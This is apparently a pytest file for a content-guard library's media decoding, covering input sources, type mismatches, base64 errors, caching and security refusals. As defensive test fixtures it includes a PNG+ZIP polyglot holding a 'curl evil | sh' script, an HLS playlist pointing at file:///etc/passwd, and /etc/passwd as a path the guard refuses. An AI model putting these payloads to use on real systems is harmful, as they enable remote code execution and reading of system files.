"""Every source of a media part, declared types vs the bytes, polyglots, and decode-once caching."""

from __future__ import annotations

import base64
import io
import zipfile

import pytest

from omniguard_plugins import Audio, Conversation, CorruptMedia, Image, Turn, UnsupportedMedia, Video
from omniguard_plugins.content import to_part
from omniguard_plugins.media import MediaCache, MediaLimits, decode_part, sniff_kind
from omniguard_plugins.testing import scripted_judge
from tests.support.media_factory import png_bytes

LIMITS = MediaLimits()
PNG = png_bytes((20, 10), (200, 30, 30))
B64 = base64.b64encode(PNG).decode()


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(lambda tmp: PNG, id="bytes"),
        pytest.param(lambda tmp: bytearray(PNG), id="bytearray"),
        pytest.param(lambda tmp: io.BytesIO(PNG), id="file-like"),
        pytest.param(lambda tmp: tmp, id="Path"),
        pytest.param(lambda tmp: str(tmp), id="path str"),
        pytest.param(lambda tmp: B64, id="base64"),
        pytest.param(lambda tmp: f"data:image/png;base64,{B64}", id="data URI"),
        pytest.param(lambda tmp: f"data:;base64,{B64}", id="data URI without a type"),
    ],
)
def test_every_source_gives_the_same_image(source, tmp_path):
    path = tmp_path / "red.png"
    path.write_bytes(PNG)
    [decoded] = decode_part(Image(source(path)), LIMITS)
    assert decoded.image.size == (20, 10) and decoded.image.getpixel((0, 0)) == (200, 30, 30)


def test_a_file_like_is_read_without_being_used_up():
    stream = io.BytesIO(b"junk" + PNG)
    stream.seek(4)
    part = to_part(stream)  # sniffs the kind: must not consume the stream
    assert isinstance(part, Image)
    first, second = decode_part(part, LIMITS), decode_part(part, LIMITS)
    assert first[0].sha256 == second[0].sha256 and stream.tell() == 4
    assert sniff_kind(stream) == "image" and stream.tell() == 4


def test_a_data_uri_whose_type_contradicts_its_bytes_is_refused():
    with pytest.raises(UnsupportedMedia, match="declared audio/wav but the bytes are image/png"):
        decode_part(Image(f"data:audio/wav;base64,{B64}"), LIMITS)
    with pytest.raises(UnsupportedMedia, match="text/html is not an image"):
        decode_part(Image(f"data:text/html;base64,{B64}"), LIMITS)
    with pytest.raises(UnsupportedMedia, match="declared video/mp4"):
        decode_part(Image(PNG, mime_type="video/mp4"), LIMITS)


def test_a_subtype_slip_within_images_is_tolerated_because_we_decode_by_the_bytes():
    [decoded] = decode_part(Image(f"data:image/jpeg;base64,{B64}"), LIMITS)
    assert decoded.image.getpixel((0, 0)) == (200, 30, 30)


@pytest.mark.parametrize(
    "text", ["data:image/png;base64,@@not base64@@", "iVBORw0KGgo" + "!" * 70, B64[:-3] + "%%%"]
)
def test_invalid_base64_is_corrupt_media(text):
    with pytest.raises(CorruptMedia, match="invalid base64"):
        decode_part(Image(text), LIMITS)


def test_a_missing_file_says_so(tmp_path):
    with pytest.raises(UnsupportedMedia, match="file not found"):
        decode_part(Image(str(tmp_path / "nope.png")), LIMITS)


def png_zip_polyglot() -> bytes:
    """A PNG with a ZIP (holding a script) appended: a valid PNG *and* a valid ZIP."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("run.sh", "curl evil | sh\n")
    data = PNG + buf.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))
    return data


def test_a_polyglot_is_decoded_as_the_one_thing_its_leading_bytes_name():
    """Decision: a part is read as the format its magic bytes name, by that decoder alone.

    The PNG+ZIP polyglot is the PNG (its pixels, nothing else, reach the model); passed as audio
    or video it is refused, and no decoder ever probes it for a second format.
    """
    data = png_zip_polyglot()
    [decoded] = decode_part(Image(data), LIMITS)
    assert decoded.image.size == (20, 10) and decoded.image.getpixel((0, 0)) == (200, 30, 30)
    for part in (Audio(data), Video(data)):
        with pytest.raises(UnsupportedMedia, match="bytes are (image/png|a still image)"):
            decode_part(part, LIMITS)


def test_a_playlist_is_never_handed_to_ffmpeg():
    """An HLS playlist would make ffmpeg open other files or URLs; we force the demuxer."""
    playlist = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    with pytest.raises(UnsupportedMedia, match="unrecognised format"):
        decode_part(Audio(playlist), LIMITS)
    with pytest.raises(UnsupportedMedia, match="unrecognised format"):
        decode_part(Video(playlist), LIMITS)


def test_the_input_and_output_rails_of_one_conversation_decode_a_shared_image_once():
    judge = scripted_judge({"bomb": "S9"})
    conversation = Conversation((
        Turn.user("what is in this picture?", Image(PNG)),
        Turn.assistant("A red rectangle."),
    ))

    assert judge.check(conversation, direction="input").safe
    assert judge.check(conversation, direction="output").safe

    assert (judge.media_cache.misses, judge.media_cache.hits) == (1, 1)
    [first_request, second_request] = judge.backend.requests
    assert first_request.media[0] is second_request.media[0]  # one decoded object, shared


def test_the_same_image_in_many_turns_and_sources_decodes_once():
    cache = MediaCache()
    for part in (Image(PNG), Image(B64), Image(f"data:image/png;base64,{B64}"), Image(io.BytesIO(PNG))):
        decode_part(part, LIMITS, cache)
    assert (cache.misses, cache.hits) == (1, 3)
    decode_part(Image(PNG), MediaLimits(image_pixel_budget=100), cache)  # other limits: decoded anew
    assert cache.misses == 2


def test_a_server_can_refuse_file_paths(tmp_path):
    """Untrusted messages must not make the guard read local files (``allow_paths=False``)."""
    path = tmp_path / "secret.png"
    path.write_bytes(PNG)
    no_paths = MediaLimits(allow_paths=False)
    for source in (path, str(path), "/etc/passwd"):
        with pytest.raises(UnsupportedMedia, match="file paths are not accepted"):
            decode_part(Image(source), no_paths)
    assert decode_part(Image(B64), no_paths)[0].image.size == (20, 10)


def test_a_pil_image_with_exif_orientation_is_turned_upright():
    from PIL import Image as PILImage

    exif = PILImage.Exif()
    exif[0x0112] = 6
    buf = io.BytesIO()
    PILImage.new("RGB", (40, 20)).save(buf, "JPEG", exif=exif)
    [decoded] = decode_part(Image(PILImage.open(buf)), LIMITS)
    assert decoded.image.size == (20, 40)


def test_a_part_judged_again_is_not_read_and_hashed_again(monkeypatch):
    """A stream's windows (and the input and output rails) judge the same parts again: an
    immutable source is base64-decoded and hashed once per part, not once per check."""
    import omniguard_plugins.media as media

    reads = []
    real = media.read_source
    monkeypatch.setattr(media, "read_source", lambda *a, **k: reads.append(1) or real(*a, **k))
    cache = MediaCache()
    part = Image(B64, origin="base64")
    first = decode_part(part, LIMITS, cache)
    assert decode_part(part, LIMITS, cache) is first and len(reads) == 1
    assert decode_part(Image(B64, origin="base64"), LIMITS, cache) == first and len(reads) == 2  # another part: read
    other_limits = MediaLimits(image_pixel_budget=LIMITS.image_pixel_budget // 2)
    decode_part(part, other_limits, cache)
    assert len(reads) == 3  # other limits: decoded for them
